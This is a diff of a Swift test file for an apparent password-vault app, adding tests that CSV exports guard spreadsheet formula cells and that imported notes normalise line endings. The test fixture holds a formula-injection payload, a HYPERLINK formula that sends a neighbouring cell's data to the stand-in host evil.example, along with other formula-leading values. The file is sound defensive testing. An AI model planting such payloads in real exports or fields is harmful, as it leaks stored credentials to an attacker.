@@ -25,14 +25,16 @@ struct RoundTripTests {
                                      parameters: .interactive, environment: VaultEnvironment(clock: clock, derivation: MemoizingDerivation()))
         let github = try vault.add(services: [try ServiceIdentifier("https://github.com/login"), try ServiceIdentifier("gist.github.com")],
                                    username: "alice", secret: try secure("first, \"quoted\"\npassword"), title: "GitHub — \"work\", main",
-                                   notes: "line 1\r\nline 2, with \"quotes\"\n日本語 🔑")
+                                   notes: "line 1\nline 2, with \"quotes\"\n日本語 🔑")
         try vault.setOneTimeKey(of: github.id, to: OneTimeParameters(algorithm: .sha512, digits: 8, period: 45), key: try secure(Self.totpKey))
         now.withLock { $0 += 60_000 }
         try vault.replaceSecret(of: github.id, with: try secure("second"))
         now.withLock { $0 += 60_000 }
         try vault.replaceSecret(of: github.id, with: try secure("third ✓"))
         try vault.add(services: [try ServiceIdentifier("192.168.1.1:8080")], username: "", secret: try secure(""), title: "")
-        try vault.add(services: [try ServiceIdentifier("*.example.co.uk")], username: "ünïcode", secret: try secure("p"), title: "Wildcard")
+        // Cells a spreadsheet would run as formulas: guarded in the CSV exports, read back as they were.
+        try vault.add(services: [try ServiceIdentifier("*.example.co.uk")], username: "@ünïcode", secret: try secure("=1+2"),
+                      title: "=HYPERLINK(\"https://evil.example/?\"&D2)", notes: "-2+3\n=4")
         return vault
     }
 
@@ -117,6 +119,27 @@ struct RoundTripTests {
                 #expect(secret(plan, copy.secret) == secret(source, original.secret))
             }
         }
+    }
+
+    @Test("CSV exports guard text cells beginning with = + - @ TAB or CR; passwords are written as they are", arguments: [ExportFormat.csv, .keepassxcCSV])
+    func formulaGuard(_ format: ExportFormat) throws {
+        let source = try sourceVault()
+        var writer = ExportWriter(format: format)
+        let text = try writer.write(source).withUnsafeBytes { String(decoding: $0, as: UTF8.self) }
+        #expect(text.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&D2)\""))
+        #expect(text.contains("\"'-2+3\n=4\""))
+        #expect(text.contains("\"'@ünïcode\""))
+        #expect(text.contains("\"=1+2\""), "the password cell is the password")
+        #expect(!text.contains("\"=HYPERLINK"))
+    }
+
+    @Test("an export's CRLF in notes comes in as LF")
+    func crlfNotes() throws {
+        let vault = try Vault.create(at: try directory.freshPath("crlf.pwtui"), password: try secure("x"), parameters: .interactive,
+                                     environment: VaultEnvironment(derivation: MemoizingDerivation()))
+        try vault.add(services: [try ServiceIdentifier("example.org")], username: "u", secret: try secure("p"), notes: "a\r\nb\rc")
+        let (plan, _) = try roundTrip(.bitwardenJSON, vault)
+        #expect(plan.additions.first?.credential.notes == "a\nb\nc")
     }
 
     @Test("importing the same export twice changes nothing the second time")
